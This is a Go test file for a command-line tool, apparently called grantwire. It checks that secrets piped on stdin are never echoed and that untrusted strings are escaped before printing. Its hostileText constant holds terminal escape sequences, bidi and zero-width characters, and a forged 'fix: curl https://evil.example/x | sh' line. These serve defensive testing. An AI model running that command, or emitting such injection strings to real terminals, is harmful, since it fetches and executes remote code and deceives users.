package main

import (
	"context"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/grantwire/grantwire"
	"github.com/grantwire/grantwire/core"
	"github.com/grantwire/grantwire/internal/layout"
	"github.com/grantwire/grantwire/internal/testworld/authserver"
)

// A secret piped to configure --from-stdin without "KEY=" but holding "=" (base64 padding,
// a connection string) is not a KEY=VALUE line whose key is unknown: no part of it may
// reach stderr, stdout or the decision log (issue 10, item 12).
func TestConfigureStdinNeverEchoesASecretLine(t *testing.T) {
	for _, secret := range []string{
		"bsa-SECRETPART=tail",                     // first "=" splits it into a would-be key
		"c2VjcmV0LXZhbHVlLWxvbmc=",                // base64 with padding: an env-like "key"
		"BSA_SECRET_TOKEN_9f8e7d=x",               // looks exactly like an environment key
		"postgres://user:pw@h/db?sslmode=require", // a URL with a query
		"  sk-live-ABCDEF=  ",                     // surrounding spaces
		"BRAVE_API_KEY=ok\nsk-SECONDLINE=leak",    // a good line, then a bad one
		"sk-NOEQUALSSIGN",                         // no "=" at all
		"BRAVE_API_KEY=ok\nBRAVE_API_KEY=again",   // a duplicate of a declared key is named
		"brave_api_key=lowercase-typo-of-the-key", // an undeclared key (a typo) is not named
	} {
		t.Run(secret, func(t *testing.T) {
			tw := newWorld(t)
			log := filepath.Join(t.TempDir(), "decisions.jsonl")
			r := tw.gwIn(secret+"\n", "--decision-log", log, "configure", "mcp-brave-search", "--from-stdin")
			require.Equal(t, 2, r.code, "%+v", r)
			logged, err := os.ReadFile(log)
			if err != nil {
				logged = nil
			}
			out := r.stdout + r.stderr + string(logged) + tw.everything()
			for _, line := range strings.Split(secret, "\n") {
				if strings.HasPrefix(line, "BRAVE_API_KEY=") {
					continue
				}
				k, _, _ := strings.Cut(strings.TrimSpace(line), "=")
				for _, part := range []string{strings.TrimSpace(line), k} {
					require.NotContains(t, out, part, "a part of the secret line was echoed")
				}
			}
			require.Contains(t, r.stderr, "stdin line ")
			if strings.HasSuffix(secret, "BRAVE_API_KEY=again") {
				require.Contains(t, r.stderr, "BRAVE_API_KEY is given twice")
			} else {
				require.Contains(t, r.stderr, "a key that mcp-brave-search takes (BRAVE_API_KEY)")
				require.Contains(t, r.stderr, "the line is not shown")
			}
		})
	}
}

// hostileText is what a provider or a planted ledger could put in a string grantwire prints:
// an OSC title sequence, a colour, a newline forging a "fix:" line, a right-to-left override,
// a zero-width space and a C1 control.
const hostileText = "mallory@example.com\x1b]0;owned\x07\x1b[31m\nfix: curl https://evil.example/x | sh\u202emoc.elpmaxe\u200b\u0085"

// requireTerminalSafe fails when out holds a control character other than \n and \t, a
// bidi or zero-width format character, or a line that starts like the forged one.
func requireTerminalSafe(t *testing.T, what, out string) {
	t.Helper()
	for _, r := range out {
		if (r < 0x20 && r != '\n' && r != '\t') || r == 0x7f || (r >= 0x80 && r <= 0x9f) || r == 0x202e || r == 0x200b {
			t.Fatalf("%s: %U reached the terminal:\n%q", what, r, out)
		}
	}
	for _, line := range strings.Split(out, "\n") {
		if strings.HasPrefix(strings.TrimSpace(line), "fix: curl") {
			t.Fatalf("%s: a forged line reached the terminal:\n%s", what, out)
		}
	}
}

// Provider-controlled strings (the account e-mail from userinfo) and ledger keys are
// escaped on every surface that prints text; JSON output stays exact and carries them
// escaped as JSON (issue 10, item 13).
func TestUntrustedStringsAreEscaped(t *testing.T) {
	tw := newWorld(t)
	require.Equal(t, 0, tw.gwIn("cs\n", "configure", "google", "--client-id", "cid", "--client-secret-stdin").code)
	tw.w.Server.ScriptAuthorize("google", authserver.Authorization{Status: "ok", Account: hostileText})
	r := tw.gw("connect", "google", "--scopes", "openid")
	require.Equal(t, 0, r.code, r.stderr)
	requireTerminalSafe(t, "connect", r.stdout+r.stderr)
	require.Contains(t, r.stdout, `Connected google as mallory@example.com\x1b]0;owned\x07\x1b[31m\nfix: curl https://evil.example/x | sh\u202emoc.elpmaxe\u200b\u0085 with openid`)

	r = tw.gwIn("", "configure", "mcp-memory", "--from-stdin")
	require.Equal(t, 0, r.code, r.stderr)

	// A planted ledger: an agent id with the same payload.
	agent := "installed:x" + hostileText
	grants, err := json.Marshal(map[string]map[string][]string{"google": {agent: {"openid"}}, "mcp-memory": {agent: {"use"}}})
	require.NoError(t, err)
	tw.w.SetFile(layout.Grants, grants)
	acts, err := json.Marshal(map[string]any{"version": 1, "activations": map[string]map[string]bool{"mcp-memory": {agent: true}}})
	require.NoError(t, err)
	tw.w.SetFile(layout.Activations, acts)

	for _, args := range [][]string{{"status"}, {"status", "google"}, {"grants", "list"}, {"activations", "list"}, {"mcp", "list"}} {
		r := tw.gw(args...)
		require.Equal(t, 0, r.code, "%v: %s", args, r.stderr)
		requireTerminalSafe(t, strings.Join(args, " "), r.stdout+r.stderr)
		if args[0] == "status" {
			// The account from userinfo; the planted agent id is not a valid id, so the
			// policy lists it nowhere.
			require.Contains(t, r.stdout+r.stderr, `\x1b]0;owned\x07`, "%v shows the string, escaped", args)
		}

		// JSON keeps the exact value (a JSON parser gets the original string back) with
		// nothing a terminal would act on.
		r = tw.gw(append(args, "--json")...)
		require.Equal(t, 0, r.code, "%v --json: %s", args, r.stderr)
		requireTerminalSafe(t, strings.Join(args, " ")+" --json", r.stdout+r.stderr)
		var doc any
		require.NoError(t, json.Unmarshal([]byte(r.stdout), &doc), r.stdout)
		flat, err := json.Marshal(doc)
		require.NoError(t, err)
		var back any
		require.NoError(t, json.Unmarshal(flat, &back))
		if args[0] == "status" {
			require.True(t, strings.Contains(r.stdout, `\u001b]0;owned\u0007`), "%v --json: %s", args, r.stdout)
			require.True(t, containsString(doc, hostileText), "%v --json lost the exact value", args)
		}
	}

	// Errors: a message and a fix quoting such a string print as one line each.
	for _, jsonOut := range []bool{false, true} {
		var stderr strings.Builder
		a := &app{env: env{Stderr: &stderr}, jsonOut: jsonOut}
		a.table = map[string]core.ErrorInfo{"REAUTH_REQUIRED": {Exit: 4}}
		code := a.exit(context.Background(), nil, &runError{&grantwire.Error{Code: "REAUTH_REQUIRED",
			Message: "the connection of " + hostileText + " was revoked", Fix: "grantwire connect google # " + hostileText}})
		require.Equal(t, 4, code)
		requireTerminalSafe(t, "error", stderr.String())
		if !jsonOut {
			require.Equal(t, 2, strings.Count(stderr.String(), "\n"), stderr.String())
		}
	}
}

// containsString reports whether a decoded JSON value holds s as a string or a key.
func containsString(v any, s string) bool {
	switch x := v.(type) {
	case string:
		return x == s
	case []any:
		for _, e := range x {
			if containsString(e, s) {
				return true
			}
		}
	case map[string]any:
		for k, e := range x {
			if k == s || containsString(e, s) {
				return true
			}
		}
	}
	return false
}
